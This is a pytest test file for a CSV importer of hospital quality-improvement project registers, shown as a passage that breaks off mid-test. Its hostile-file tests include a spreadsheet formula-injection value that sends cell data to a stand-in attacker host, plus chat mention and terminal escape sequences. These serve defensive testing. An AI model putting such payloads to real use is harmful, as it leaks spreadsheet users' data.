"""Loading a project register from CSV: `qi-nudge import-projects FILE [--strict]`."""

from __future__ import annotations

import io
from contextlib import contextmanager
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import event, func, select
from sqlalchemy.orm import aliased

from handlers.projects.register_import import (
    WRITE_BATCH,
    ImportReport,
    RegisterFileError,
    RowProblem,
    import_projects,
    open_register,
)
from store.models import AuditEvent, Person, Project
from store.projects import create_project
from store.roles import ProjectStatus

DATA = Path(__file__).parents[2] / "data"
HEADER = "Project name,Lead,Site,Status\n"


def load(ctx, text: str, **options) -> ImportReport:
    """Import a register given as text, as the admin's command line would."""
    return import_projects(ctx, io.StringIO(text, newline=""), **options)


def load_file(ctx, name: str, **options) -> ImportReport:
    with open_register(DATA / name) as source:
        return import_projects(ctx, source, **options)


def projects(sessions) -> dict[str, tuple[str | None, ProjectStatus, str | None, str | None]]:
    """Every project: name -> (site, status, lead's name, lead's e-mail)."""
    lead = aliased(Person)
    with sessions() as session:
        rows = session.execute(
            select(Project.name, Project.site, Project.status, lead.display_name, lead.email)
            .outerjoin(lead, lead.id == Project.lead_person_id)
            .order_by(Project.name)
        )
        return {
            name: (site, status, lead_name, email) for name, site, status, lead_name, email in rows
        }


def start_dates(sessions) -> dict[str, date | None]:
    """Every project: name -> the start date stored for it."""
    with sessions() as session:
        rows = session.execute(select(Project.name, Project.started_on))
        return {name: started_on for name, started_on in rows}


def count(sessions, model) -> int:
    with sessions() as session:
        return session.scalar(select(func.count()).select_from(model))


def problem_lines(report: ImportReport) -> list[int]:
    return [problem.line for problem in report.problems]


# --- A register loads --------------------------------------------------------------------


def test_life_qi_register_with_extra_columns_and_aliased_headers_loads(ctx, sessions):
    report = load_file(ctx, "life_qi_register.csv")

    assert (report.created, report.updated, report.unchanged) == (5, 0, 0)
    assert report.problems == []
    assert report.applied
    assert report.unknown_columns == ["Project ID", "Progress Score", "Description"]
    assert projects(sessions) == {
        "Discharge letters, made readable": (
            "Acute Medicine",
            ProjectStatus.ACTIVE,
            "Ben Okafor",
            None,
        ),
        "Falls prevention on Ward 7": (
            "Older People's Services",
            ProjectStatus.ACTIVE,
            "Asha Patel",
            "asha.patel@nhs.net",
        ),
        "Mealtimes matter": ("Older People's Services", ProjectStatus.ACTIVE, None, None),
        "Pressure ulcer bundle": (
            "Community Nursing",
            ProjectStatus.COMPLETED,
            "Chloe Evans",
            "chloe.evans@nhs.net",
        ),
        "Safer insulin": ("Diabetes", ProjectStatus.ON_HOLD, "Asha Patel", "asha.patel@nhs.net"),
    }


def test_headers_are_matched_whatever_their_case_spacing_and_punctuation(ctx, sessions):
    report = load(
        ctx, "  PROJECT-NAME , project_lead,Site / Team,STATUS:\nFalls,Asha,Ward 7,live\n"
    )

    assert report.created == 1 and report.unknown_columns == []
    assert projects(sessions) == {"Falls": ("Ward 7", ProjectStatus.ACTIVE, "Asha", None)}


def test_semicolon_separated_register_from_a_european_excel_loads(ctx, sessions):
    report = load(ctx, "Title;Owner;Team;Stage\nFalls, at night;Asha Patel;Ward 7;Done\n")

    assert report.created == 1 and report.problems == []
    assert projects(sessions)["Falls, at night"][1] is ProjectStatus.COMPLETED


def test_excel_separator_hint_line_is_followed(ctx, sessions):
    report = load(
        ctx, "sep=;\nProject name;Lead;Site;Status\nFalls, at night;Asha;W7;Active\nX;;;\n"
    )

    assert report.created == 1
    assert problem_lines(report) == [4]
    assert list(projects(sessions)) == ["Falls, at night"]


def test_each_import_is_in_the_audit_trail_without_names(ctx, sessions):
    load_file(ctx, "life_qi_register.csv")

    with sessions() as session:
        events = session.scalars(select(AuditEvent).order_by(AuditEvent.id)).all()
    assert [e.action for e in events] == ["project.imported"] * 5
    assert {e.at for e in events} == {ctx.now()}
    text = repr([e.detail for e in events])
    for name in ("Asha", "Patel", "asha.patel", "Falls", "Diabetes"):
        assert name not in text
    assert sorted(e.detail["started_on"] for e in events) == [
        "2025-06-30",
        "2026-01-12",
        "2026-02-14",
        "2026-03-01",
        "2026-04-01",
    ]


# --- Importing again ---------------------------------------------------------------------


def test_reimporting_the_same_register_changes_nothing(ctx, sessions, clock):
    load_file(ctx, "life_qi_register.csv")
    before = projects(sessions)
    clock.advance(days=1)

    again = load_file(ctx, "life_qi_register.csv")

    assert (again.created, again.updated, again.unchanged) == (0, 0, 5)
    assert projects(sessions) == before
    assert count(sessions, Person) == 3
    assert count(sessions, AuditEvent) == 5
    with sessions() as session:
        assert set(session.scalars(select(Project.updated_at))) == {clock() - timedelta(days=1)}


def test_an_edited_register_updates_only_what_changed(ctx, sessions, clock):
    load(ctx, HEADER + "Falls,Asha Patel,Ward 7,Active\nInsulin,Ben Okafor,Diabetes,Active\n")
    clock.advance(days=7)

    report = load(
        ctx,
        HEADER
        + "falls,Asha Patel,Ward 7,Completed\n"  # status changed
        + "Insulin,Chloe Evans,Diabetes unit,Active\n"  # lead and site changed
        + "Sepsis,Ben Okafor,ED,Active\n",  # new
    )

    assert (report.created, report.updated, report.unchanged) == (1, 2, 0)
    assert projects(sessions) == {
        "Falls": ("Ward 7", ProjectStatus.COMPLETED, "Asha Patel", None),
        "Insulin": ("Diabetes unit", ProjectStatus.ACTIVE, "Chloe Evans", None),
        "Sepsis": ("ED", ProjectStatus.ACTIVE, "Ben Okafor", None),
    }
    with sessions() as session:
        updates = session.execute(
            select(Project.name, AuditEvent.detail, AuditEvent.at)
            .join(Project, Project.id == AuditEvent.subject_id)
            .where(AuditEvent.action == "project.import_updated")
            .order_by(Project.name)
        ).all()
        falls_updated = session.scalar(select(Project.updated_at).where(Project.name == "Falls"))
    assert [(name, detail["changed"]) for name, detail, _ in updates] == [
        ("Falls", ["status"]),
        ("Insulin", ["lead", "site"]),
    ]
    assert {at for _, _, at in updates} == {clock()}
    assert falls_updated == clock()


def test_a_project_started_in_chat_is_updated_not_duplicated(ctx, sessions):
    with ctx.sessions.begin() as session:
        create_project(
            session,
            name="Falls prevention",
            lead_id=None,
            site=None,
            status=ProjectStatus.ACTIVE,
            now=ctx.now(),
        )

    report = load(ctx, HEADER + "FALLS-PREVENTION,Asha Patel,Ward 7,On hold\n")

    assert (report.created, report.updated) == (0, 1)
    assert projects(sessions) == {
        "Falls prevention": ("Ward 7", ProjectStatus.ON_HOLD, "Asha Patel", None)
    }


def test_empty_lead_or_site_keeps_what_we_already_have(ctx, sessions):
    load(ctx, HEADER + "Falls,Asha Patel,Ward 7,Active\n")

    report = load(ctx, HEADER + "Falls,,,Active\n")

    assert (report.updated, report.unchanged) == (0, 1)
    assert projects(sessions)["Falls"] == ("Ward 7", ProjectStatus.ACTIVE, "Asha Patel", None)


def test_a_site_is_spelled_as_already_recorded_or_as_first_in_the_register(ctx, sessions):
    load(ctx, HEADER + "Falls,Asha Patel,Riverside Hospital,Active\n")

    report = load(
        ctx,
        HEADER
        + "Falls,Asha Patel,RIVERSIDE HOSPITAL,Active\n"
        + "Sepsis,Asha Patel,riverside  hospital.,Active\n"
        + "Sleep,Asha Patel,Oak Lodge,Active\n"
        + "Walks,Asha Patel,oak lodge,Active\n"
        + "Notes,Asha Patel,--,Active\n",
    )

    assert (report.created, report.unchanged, report.problems) == (4, 1, [])
    sites = {name: row[0] for name, row in projects(sessions).items()}
    assert sites == {
        "Falls": "Riverside Hospital",  # unchanged: the same site, however it is typed
        "Sepsis": "Riverside Hospital",
        "Sleep": "Oak Lodge",
        "Walks": "Oak Lodge",
        "Notes": None,  # punctuation names no site
    }
    with sessions() as session:
        keys = set(session.scalars(select(Project.site_key)))
    assert keys == {"riverside hospital", "oak lodge", None}


# --- Start dates -------------------------------------------------------------------------

START_HEADER = "Project name,Lead,Site,Status,Start date\n"
FORMS = "12/01/2026 (day first), 12/01/26, 12 January 2026, 12 Jan 2026 or 2026-01-12"


def test_the_life_qi_registers_start_dates_are_stored(ctx, sessions):
    load_file(ctx, "life_qi_register.csv")

    assert start_dates(sessions) == {
        "Discharge letters, made readable": date(2026, 3, 1),
        "Falls prevention on Ward 7": date(2026, 1, 12),
        "Mealtimes matter": date(2026, 4, 1),
        "Pressure ulcer bundle": date(2025, 6, 30),
        "Safer insulin": date(2026, 2, 14),
    }


def test_start_dates_are_read_in_every_accepted_form_day_first(ctx, sessions):
    report = load(
        ctx,
        START_HEADER
        + "Iso,Asha,W7,Active,2026-01-12\n"
        + "Uk,Asha,W7,Active,12/01/2026\n"
        + "Uk short year,Asha,W7,Active,12/01/26\n"
        + "Month name,Asha,W7,Active,12 January 2026\n"
        + "Month abbreviated,Asha,W7,Active,12 Jan 2026\n"
        + "Loosely typed,Asha,W7,Active,  12  JANUARY   2026 \n"
        + "Single digits,Asha,W7,Active,3/2/2026\n"
        + "September,Asha,W7,Active,3 Sept 2025\n",
    )

    assert report.problems == [] and report.created == 8
    assert start_dates(sessions) == {
        "Iso": date(2026, 1, 12),
        "Uk": date(2026, 1, 12),
        "Uk short year": date(2026, 1, 12),
        "Month name": date(2026, 1, 12),
        "Month abbreviated": date(2026, 1, 12),
        "Loosely typed": date(2026, 1, 12),
        "Single digits": date(2026, 2, 3),
        "September": date(2025, 9, 3),
    }


@pytest.mark.parametrize(
    "heading", ["Project start date", "Started", "DATE-STARTED", "start", " Start Date: "]
)
def test_start_date_headings_are_recognised(ctx, sessions, heading):
    report = load(
        ctx, f"Project name,Lead,Site,Status,{heading}\nFalls,Asha,W7,Active,12/01/2026\n"
    )

    assert report.unknown_columns == []
    assert start_dates(sessions) == {"Falls": date(2026, 1, 12)}


def test_start_dates_are_read_by_the_same_reader_as_every_command(ctx, sessions):
    report = load(
        ctx,
        START_HEADER
        + "Falls,Asha,W7,Active,12th Jan 2026\n"
        + "Insulin,Ben,Diabetes,Active,12.01.2026\n"
        + "Sepsis,Ben,ED,Active,12 Jan\n"  # no year: a register's dates must carry one
        + "Mealtimes,Ben,W7,Active,Monday 12 Jan 2026\n"
        + "Discharge,Chloe,AMU,Active,Friday 12 Jan 2026\n",  # a Monday: that row is skipped
    )

    assert start_dates(sessions) == {
        "Falls": date(2026, 1, 12),
        "Insulin": date(2026, 1, 12),
        "Mealtimes": date(2026, 1, 12),
    }
    assert [str(problem) for problem in report.problems][-1] == (
        'line 6: the start date "Friday 12 Jan 2026": 12 January 2026 is a Monday, not a Friday. '
        "Please check the date."
    )


def test_an_unreadable_start_date_skips_the_row_saying_what_to_write(ctx, sessions):
    report = load(
        ctx,
        START_HEADER
        + "Falls,Asha,W7,Active,next spring\n"
        + "Insulin,Ben,Diabetes,Active,01/13/2026\n"  # month first
        + "Sepsis,Ben,ED,Active,31/02/2026\n"  # no such day
        + "Mealtimes,Ben,W7,Active,Jan 2026\n"  # no day
        + "Discharge,Chloe,AMU,Active,12/01/2026\n",
    )

    assert [str(problem) for problem in report.problems] == [
        f'line 2: I can\'t read the start date "next spring". Please write it like {FORMS}, or '
        "leave the cell empty.",
        f'line 3: I can\'t read the start date "01/13/2026". Please write it like {FORMS}, or '
        "leave the cell empty.",
        f'line 4: I can\'t read the start date "31/02/2026". Please write it like {FORMS}, or '
        "leave the cell empty.",
        f'line 5: I can\'t read the start date "Jan 2026". Please write it like {FORMS}, or '
        "leave the cell empty.",
    ]
    assert report.applied and report.created == 1
    assert start_dates(sessions) == {"Discharge": date(2026, 1, 12)}
    # Leads named only on skipped rows are not added.
    with sessions() as session:
        assert list(session.scalars(select(Person.display_name))) == ["Chloe"]


def test_a_start_date_in_the_future_skips_the_row(ctx, sessions):
    # The clock says Monday 23 November 2026.
    report = load(
        ctx,
        START_HEADER
        + "Falls,Asha,W7,Active,24/11/2026\n"
        + "Insulin,Ben,Diabetes,Active,23/11/2026\n"  # today is fine
        + "Sepsis,Ben,ED,Active,01/01/99\n",  # 2099
    )

    assert [str(problem) for problem in report.problems] == [
        'line 2: the start date "24/11/2026" is 24 November 2026, which is after today. '
        "Please give the day the work began (dates are day first, like 12/01/2026 for "
        "12 January 2026), or leave the cell empty if it hasn't begun yet.",
        'line 4: the start date "01/01/99" is 1 January 2099, which is after today. '
        "Please give the day the work began (dates are day first, like 12/01/2026 for "
        "12 January 2026), or leave the cell empty if it hasn't begun yet.",
    ]
    assert start_dates(sessions) == {"Insulin": date(2026, 11, 23)}


def test_today_is_the_trusts_date_not_utcs(ctx, sessions, clock):
    # 23:30 UTC on 30 June is already 00:30 on 1 July in London (BST).
    clock.current = datetime(2026, 6, 30, 23, 30, tzinfo=UTC)

    report = load(
        ctx, START_HEADER + "Falls,Asha,W7,Active,01/07/2026\nInsulin,Ben,D,Active,02/07/2026\n"
    )

    assert problem_lines(report) == [3]
    assert start_dates(sessions) == {"Falls": date(2026, 7, 1)}


def test_a_start_date_last_century_is_taken_for_a_typo(ctx, sessions):
    report = load(
        ctx, START_HEADER + "Falls,Asha,W7,Active,12/01/1926\nInsulin,Ben,D,Active,0026-01-12\n"
    )

    assert report.problems == [
        RowProblem(
            2,
            'the start date "12/01/1926" is 12 January 1926, before 2000: is it a typo? Please '
            f"write it like {FORMS}, or leave the cell empty.",
        ),
        RowProblem(
            3,
            'the start date "0026-01-12" is 12 January 26, before 2000: is it a typo? Please '
            f"write it like {FORMS}, or leave the cell empty.",
        ),
    ]
    assert count(sessions, Project) == 0


def test_strict_import_writes_nothing_when_a_start_date_is_bad(ctx, sessions):
    report = load(
        ctx,
        START_HEADER + "Falls,Asha,W7,Active,12/01/2026\nInsulin,Ben,D,Active,soon\n",
        strict=True,
    )

    assert not report.applied and problem_lines(report) == [3]
    assert count(sessions, Project) == 0
    assert count(sessions, Person) == 0
    assert count(sessions, AuditEvent) == 0


def test_a_changed_start_date_is_updated_and_reported(ctx, sessions, clock):
    load(ctx, START_HEADER + "Falls,Asha,W7,Active,12/01/2026\nInsulin,Ben,D,Active,\n")
    clock.advance(days=7)

    report = load(
        ctx, START_HEADER + "Falls,Asha,W7,Active,19/01/2026\nInsulin,Ben,D,Active,2 Feb 2026\n"
    )

    assert (report.created, report.updated, report.unchanged) == (0, 2, 0)
    assert start_dates(sessions) == {"Falls": date(2026, 1, 19), "Insulin": date(2026, 2, 2)}
    with sessions() as session:
        updates = session.execute(
            select(Project.name, Project.updated_at, AuditEvent.detail)
            .join(Project, Project.id == AuditEvent.subject_id)
            .where(AuditEvent.action == "project.import_updated")
            .order_by(Project.name)
        ).all()
    assert [(name, detail["changed"], detail["started_on"]) for name, _, detail in updates] == [
        ("Falls", ["start date"], "2026-01-19"),
        ("Insulin", ["start date"], "2026-02-02"),
    ]
    assert {updated_at for _, updated_at, _ in updates} == {clock()}


def test_a_project_started_in_chat_gets_the_registers_start_date(ctx, sessions):
    with ctx.sessions.begin() as session:
        create_project(
            session,
            name="Falls prevention",
            lead_id=None,
            site=None,
            status=ProjectStatus.ACTIVE,
            now=ctx.now(),
        )

    report = load(ctx, START_HEADER + "Falls prevention,,,Active,2026-01-12\n")

    assert report.updated == 1
    assert start_dates(sessions) == {"Falls prevention": date(2026, 1, 12)}


def test_an_empty_start_date_keeps_the_stored_one(ctx, sessions):
    load(ctx, START_HEADER + "Falls,Asha,W7,Active,12/01/2026\nInsulin,Ben,D,Active,2026-02-02\n")

    report = load(
        ctx,
        START_HEADER
        + "Falls,Asha,W7,Active,\n"
        + "Insulin,Ben,D,Active\n",  # a spreadsheet that leaves out the empty last cell
    )

    assert (report.updated, report.unchanged) == (0, 2) and report.problems == []
    assert start_dates(sessions) == {"Falls": date(2026, 1, 12), "Insulin": date(2026, 2, 2)}


def test_a_register_without_a_start_date_column_imports_as_before(ctx, sessions):
    load(ctx, START_HEADER + "Falls,Asha,W7,Active,12/01/2026\n")

    report = load(ctx, HEADER + "Falls,Asha,W7,Completed\nInsulin,Ben,D,Active\n")

    assert (report.created, report.updated) == (1, 1) and report.problems == []
    assert start_dates(sessions) == {"Falls": date(2026, 1, 12), "Insulin": None}
    with sessions() as session:
        imported = session.scalar(
            select(AuditEvent.detail).where(AuditEvent.action == "project.imported").offset(1)
        )
    assert imported["started_on"] is None


# --- Leads -------------------------------------------------------------------------------


def test_a_lead_given_by_email_is_one_person_across_rows_and_reimports(ctx, sessions):
    register = (
        HEADER
        + "Falls,asha.patel@nhs.net,Ward 7,Active\n"
        + "Insulin,ASHA.PATEL@NHS.NET,Diabetes,Active\n"
        + 'Sepsis,"Patel, Asha (NHS TRUST) <asha.patel@nhs.net>",ED,Active\n'
    )

    load(ctx, register)
    load(ctx, register.replace("Ward 7", "Ward 8"))

    with sessions() as session:
        people = session.execute(select(Person.display_name, Person.email)).all()
    assert people == [("Asha Patel", "asha.patel@nhs.net")]
    assert {lead for _, _, lead, _ in projects(sessions).values()} == {"Asha Patel"}


def test_a_lead_by_email_finds_the_person_already_known_by_that_email(ctx, sessions):
    with ctx.sessions.begin() as session:
        session.add(
            Person(display_name="Dr A. Patel", email="Asha.Patel@nhs.net", created_at=ctx.now())
        )

    load(ctx, HEADER + "Falls,asha.patel@nhs.net,Ward 7,Active\n")

    assert projects(sessions)["Falls"][2] == "Dr A. Patel"
    assert count(sessions, Person) == 1


def test_a_lead_by_name_finds_the_one_person_of_that_name(ctx, sessions, chat, asha):
    chat.say(asha, '/qi-project new "Sepsis screening"')  # Asha is now known from chat

    load(ctx, HEADER + "Falls,asha patel,Ward 7,Active\n")

    assert projects(sessions)["Falls"][2] == "Asha Patel"
    assert count(sessions, Person) == 1


def test_a_lead_name_shared_by_two_people_is_a_problem_not_a_guess(ctx, sessions):
    with ctx.sessions.begin() as session:
        for _ in range(2):
            session.add(Person(display_name="Sam Jones", created_at=ctx.now()))

    report = load(ctx, HEADER + "Falls,Sam Jones,Ward 7,Active\nInsulin,,Diabetes,Active\n")

    assert report.problems == [
        RowProblem(
            2,
            'there are 2 people called "Sam Jones", so I can\'t tell which one leads this '
            "project. Please give the lead's e-mail address instead.",
        )
    ]
    assert list(projects(sessions)) == ["Insulin"]


def test_two_email_addresses_for_one_lead_is_a_problem(ctx, sessions):
    report = load(ctx, HEADER + 'Falls,"a.b@nhs.net; c.d@nhs.net",Ward 7,Active\n')

    assert problem_lines(report) == [2]
    assert "more than one e-mail address" in report.problems[0].message
    assert count(sessions, Person) == 0


# --- Bad rows ----------------------------------------------------------------------------


def test_bad_rows_are_reported_with_their_line_numbers_and_good_rows_load(ctx, sessions):
    report = load_file(ctx, "register_with_problems.csv")

    assert [str(problem) for problem in report.problems] == [
        'line 3: I don\'t know the status "Parked". Use active, on hold, completed or stopped.',
        "line 5: the project name is empty.",
        'line 8: "falls PREVENTION" is the same project as line 2, so I used that line and '
        "skipped this one.",
        "line 9: this row has 3 cells but the header has 4, so I can't tell which cell is which.",
        "line 10: this row has 5 cells but the header has 4. Is there a comma in a name that "
        "needs quote marks around it?",
        "line 11: the status is empty. Use active, on hold, completed or stopped.",
        "line 12: the project name is 201 characters long; please keep it to 200.",
    ]
    assert report.applied and (report.created, report.updated) == (3, 0)
    assert projects(sessions) == {
        "Discharge letters": ("Acute Medicine", ProjectStatus.COMPLETED, "Ben Okafor", None),
        "Falls prevention": ("Ward 7", ProjectStatus.ACTIVE, "Asha Patel", None),
        "Sepsis screening": ("ED", ProjectStatus.STOPPED, "Ben Okafor", None),
    }
    # Chloe is named only on bad rows, so she is not added.
    with sessions() as session:
        assert sorted(session.scalars(select(Person.display_name))) == ["Asha Patel", "Ben Okafor"]


def test_strict_import_writes_nothing_when_any_row_is_bad(ctx, sessions):
    report = load_file(ctx, "register_with_problems.csv", strict=True)

    assert not report.applied
    assert (report.created, report.updated, report.unchanged) == (0, 0, 0)
    assert problem_lines(report) == [3, 5, 8, 9, 10, 11, 12]
    assert count(sessions, Project) == 0
    assert count(sessions, Person) == 0
    assert count(sessions, AuditEvent) == 0


def test_strict_import_leaves_existing_projects_alone_when_a_lead_is_ambiguous(ctx, sessions):
    load(ctx, HEADER + "Falls,Asha Patel,Ward 7,Active\n")
    with ctx.sessions.begin() as session:
        for _ in range(2):
            session.add(Person(display_name="Sam Jones", created_at=ctx.now()))

    report = load(
        ctx, HEADER + "Falls,Asha Patel,Ward 7,Completed\nInsulin,Sam Jones,D,Active\n", strict=True
    )

    assert not report.applied and problem_lines(report) == [3]
    assert projects(sessions) == {"Falls": ("Ward 7", ProjectStatus.ACTIVE, "Asha Patel", None)}


def test_strict_import_loads_a_clean_register(ctx, sessions):
    report = load_file(ctx, "life_qi_register.csv", strict=True)

    assert report.applied and report.created == 5
    assert count(sessions, Project) == 5


# --- Files that cannot be imported -------------------------------------------------------


def test_a_register_without_a_required_column_is_refused_naming_it(ctx, sessions):
    with pytest.raises(RegisterFileError) as refused:
        load(ctx, "Project title,Owner,Directorate,Notes\nFalls,Asha,Ward 7,x\n")

    message = str(refused.value)
    assert message.startswith("I can't import this file: it has no column for the status.")
    assert 'The columns I found are: "Project title", "Owner", "Directorate", "Notes".' in message
    assert '• status: "Status" or "Project status" or "Stage"' in message
    assert "project name" not in message
    assert count(sessions, Project) == 0


def test_a_register_missing_several_columns_names_them_all(ctx):
    with pytest.raises(RegisterFileError, match="no columns for these: project lead, site or team"):
        load(ctx, "Project name,Status\nFalls,Active\n")


def test_an_empty_file_is_refused_kindly(ctx):
    with pytest.raises(RegisterFileError, match="The file is empty"):
        load(ctx, "")
    with pytest.raises(RegisterFileError, match="The file is empty"):
        load(ctx, "\r\n\n  \n")


def test_a_header_only_register_imports_nothing(ctx, sessions):
    report = load(ctx, HEADER)

    assert report == ImportReport(0, 0, 0, [], True, [])
    assert count(sessions, Project) == 0


def test_a_file_that_cannot_be_opened_is_refused(tmp_path):
    with pytest.raises(RegisterFileError, match="I couldn't open"):
        open_register(tmp_path / "missing.csv")


# --- Hostile files -----------------------------------------------------------------------


def test_utf8_with_byte_order_mark_from_excel(ctx, sessions, tmp_path):
    path = tmp_path / "register.csv"
    path.write_bytes((HEADER + "Café culture,Siân Jones,Ward 7,Active\n").encode("utf-8-sig"))

    with open_register(path) as source:
        report = import_projects(ctx, source)
    # A BOM left in by whoever opened the file is no trouble either.
    load(ctx, "\ufeff" + HEADER + "Falls,Asha,Ward 7,Active\n")

    assert report.created == 1 and report.unknown_columns == []
    assert projects(sessions)["Café culture"][2] == "Siân Jones"
    assert "Falls" in projects(sessions)


def test_windows_1252_file_is_read_via_open_register(ctx, sessions, tmp_path):
    path = tmp_path / "register.csv"
    path.write_bytes((HEADER + "Patients’ café,Siân O’Neill,Ward 7,Active\n").encode("cp1252"))

    with open_register(path) as source:
        report = import_projects(ctx, source)

    assert report.created == 1
    assert projects(sessions)["Patients’ café"][2] == "Siân O’Neill"


def test_utf16_file_saved_as_excel_unicode_text_is_read(ctx, sessions, tmp_path):
    path = tmp_path / "register.txt"
    path.write_bytes(
        ("Project name\tLead\tSite\tStatus\r\nFalls\tSiân\tWard 7\tActive\r\n").encode("utf-16")
    )

    with open_register(path) as source:
        report = import_projects(ctx, source)

    assert report.created == 1
    assert projects(sessions) == {"Falls": ("Ward 7", ProjectStatus.ACTIVE, "Siân", None)}


def test_nul_bytes_are_dropped(ctx, sessions):
    report = load(
        ctx, HEADER + "Fa\0lls,asha.pa\0tel@nhs.net,Ward 7,Act\0ive\nInsulin,Ben\0,D,Active\n"
    )

    assert report.created == 2 and report.problems == []
    assert projects(sessions) == {
        "Falls": ("Ward 7", ProjectStatus.ACTIVE, "Asha Patel", "asha.patel@nhs.net"),
        "Insulin": ("D", ProjectStatus.ACTIVE, "Ben", None),
    }


def test_a_huge_cell_is_a_row_problem_and_the_rest_loads(ctx, sessions):
    huge = "x" * 200_000
    report = load(
        ctx,
        "Project name,Lead,Site,Status,Notes\n"
        f"Falls,Asha,Ward 7,Active,{huge}\n"
        f"{huge},Asha,Ward 7,Active,\n"
        "Insulin,Ben,Diabetes,Active,\n",
    )

    assert problem_lines(report) == [2, 3]
    assert "too long to read" in report.problems[0].message
    assert list(projects(sessions)) == ["Insulin"]


def test_a_stray_quote_mark_is_reported_at_the_line_it_starts(ctx, sessions):
    report = load(
        ctx,
        HEADER
        + "Falls,Asha,Ward 7,Active\n"
        + '"Insulin,Ben,Diabetes,Active\n'
        + "Sepsis,Ben,ED,Active\n",
    )

    assert problem_lines(report) == [3]
    assert "It runs on to line 4: is there a stray quote mark?" in report.problems[0].message
    assert list(projects(sessions)) == ["Falls"]


def test_ragged_rows_with_only_empty_extra_or_unused_cells_are_fine(ctx, sessions):
    report = load(
        ctx,
        "Project name,Lead,Site,Status,Notes,Start date\n"
        "Falls,Asha,Ward 7,Active\n"  # the trailing unused cells are left out
        "Insulin,Ben,Diabetes,Active,,,,,\n",  # trailing commas from a spreadsheet
    )

    assert report.created == 2 and report.problems == []


def test_blank_lines_are_skipped_and_later_line_numbers_stay_right(ctx, sessions):
    report = load(
        ctx, "\n" + HEADER + "\n\n , ,,\nFalls,Asha,Ward 7,Active\n\nInsulin,Ben,D,Parked\n"
    )

    assert report.created == 1
    assert problem_lines(report) == [8]


def test_formula_cells_are_stored_as_plain_text(ctx, sessions):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Falls")'
    report = load(
        ctx, HEADER + f'"{formula.replace(chr(34), chr(34) * 2)}",+44 7700,@SUM(1),Active\n'
    )

    assert report.created == 1
    assert projects(sessions) == {formula: ("@SUM(1)", ProjectStatus.ACTIVE, "+44 7700", None)}


def test_chat_control_sequences_in_names_are_stored_as_they_are(ctx, sessions):
    report = load(ctx, HEADER + "<!channel> Falls,<@U123> Asha,<#C1|ward>,Active\n")

    assert report.created == 1
    assert projects(sessions) == {
        "<!channel> Falls": ("<#C1|ward>", ProjectStatus.ACTIVE, "<@U123> Asha", None)
    }


def test_terminal_escapes_are_not_repeated_back_in_problems(ctx):
    report = load(ctx, HEADER + "Falls,Asha,Ward 7,\x1b[2Jparked\n")

    assert report.problems[0].message.startswith('I don\'t know the status "[2Jparked"')
    assert "\x1b" not in report.problems[0].message


# --- Long registers ----------------------------------------------------------------------


def _register(count: int, prefix: str) -> str:
    """A register of `count` projects; leads by e-mail and by name, some shared."""
    rows = []
    for i in range(count):
        lead = f"{prefix}.lead{i % 50}@nhs.net" if i % 2 else f"{prefix} Lead {i % 40}"
        rows.append(
            f"{prefix} project {i},{lead},Site {i % 7},{'Active' if i % 3 else 'On hold'}\n"
        )
    return HEADER + "".join(rows)


@contextmanager
def counting_statements(sessions):
    """Collect every SQL statement sent on the test's connection."""
    connection = sessions.kw["bind"]
    statements: list[str] = []

    def before_cursor_execute(conn, cursor, statement, parameters, context, executemany):
        statements.append(statement)

    event.listen(connection, "before_cursor_execute", before_cursor_execute)
    try:
        yield statements
    finally:
        event.remove(connection, "before_cursor_execute", before_cursor_execute)


def selects(statements: list[str]) -> list[str]:
    return [s for s in statements if s.lstrip().upper().startswith("SELECT")]


def test_import_uses_the_same_number_of_queries_for_10_rows_as_for_300(ctx, sessions):
    # Half the leads are known already, so lookups find people as well as adding them.
    load(ctx, _register(60, "early"))
    with counting_statements(sessions) as small:
        small_report = load(ctx, _register(10, "small") + _register(10, "early")[len(HEADER) :])
    with counting_statements(sessions) as large:
        large_report = load(ctx, _register(300, "large") + _register(60, "early")[len(HEADER) :])

    assert (small_report.created, small_report.unchanged) == (10, 10)
    assert (large_report.created, large_report.unchanged) == (300, 60)
    # Projects, their sites' spellings, people by e-mail, by the digest chat keeps of an
    # address, people by name, and whether anyone was ever erased.
    assert len(selects(small)) == len(selects(large)) == 6
    if sessions.kw["bind"].dialect.name == "postgresql":
        # INSERTs are batched too. (SQLite can't return new ids in order, so SQLAlchemy's unit
        # of work sends one INSERT per new row there.)
        assert len(large) == len(small)


def test_progress_is_reported_every_500_rows_and_at_the_end(ctx, sessions):
    seen: list[int] = []

    report = load(ctx, _register(1_200, "p") + "\n\n", progress=seen.append)

    assert seen == [500, 1_000, 1_200]
    assert report.created == 1_200
    assert count(sessions, Project) == 1_200


def test_progress_at_a_round_500_is_not_repeated(ctx):
    seen: list[int] = []

    load(ctx, _register(500, "p"), progress=seen.append)

    assert seen == [500]


def test_a_register_of_many_batches_loads_whole_and_again_changes_nothing(ctx, sessions):
    register = _register(2 * WRITE_BATCH + 500, "big")

    first = load(ctx, register)
    again = load(ctx, register)

    assert (first.created, first.problems) == (2 * WRITE_BATCH + 500, [])
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2 * WRITE_BATCH + 500)
    # Leads named in several batches are one person each: 25 by e-mail, 20 by name.
    assert count(sessions, Person) == 45


def test_strict_import_writes_nothing_when_only_the_last_batch_has_a_problem(ctx, sessions):
    with ctx.sessions.begin() as session:
        for _ in range(2):
            session.add(Person(display_name="Sam Jones", created_at=ctx.now()))
    rows = 2 * WRITE_BATCH + 500

    report = load(ctx, _register(rows, "big") + "Last one,Sam Jones,D,Active\n", strict=True)

    assert not report.applied and problem_lines(report) == [rows + 2]
    assert count(sessions, Project) == 0


def test_strict_import_sees_the_people_earlier_batches_would_add(ctx, sessions, monkeypatch):
    # Jo Bloggs is known by name only; line 2 adds a second Jo Bloggs (by address), so "Jo
    # Bloggs" on line 3 could be either. In one batch that is a problem; it must be one across
    # batches too, or --strict would pass its check and then write line 2 before finding it.
    monkeypatch.setattr("handlers.projects.register_import.WRITE_BATCH", 1)
    with ctx.sessions.begin() as session:
        session.add(Person(display_name="Jo Bloggs", created_at=ctx.now()))

    report = load(
        ctx,
        HEADER + "Alpha,jo.bloggs@nhs.net,Ward 1,Active\nBeta,Jo Bloggs,Ward 2,Active\n",
        strict=True,
    )

    assert not report.applied and problem_lines(report) == [3]
    assert "there are 2 people called" in report.problems[0].message
    assert count(sessions, Project) == 0
    assert count(sessions, Person) == 1


def test_a_lead_new_in_one_batch_is_the_same_person_in_the_next(ctx, sessions, monkeypatch):
    monkeypatch.setattr("handlers.projects.register_import.WRITE_BATCH", 1)

    report = load(
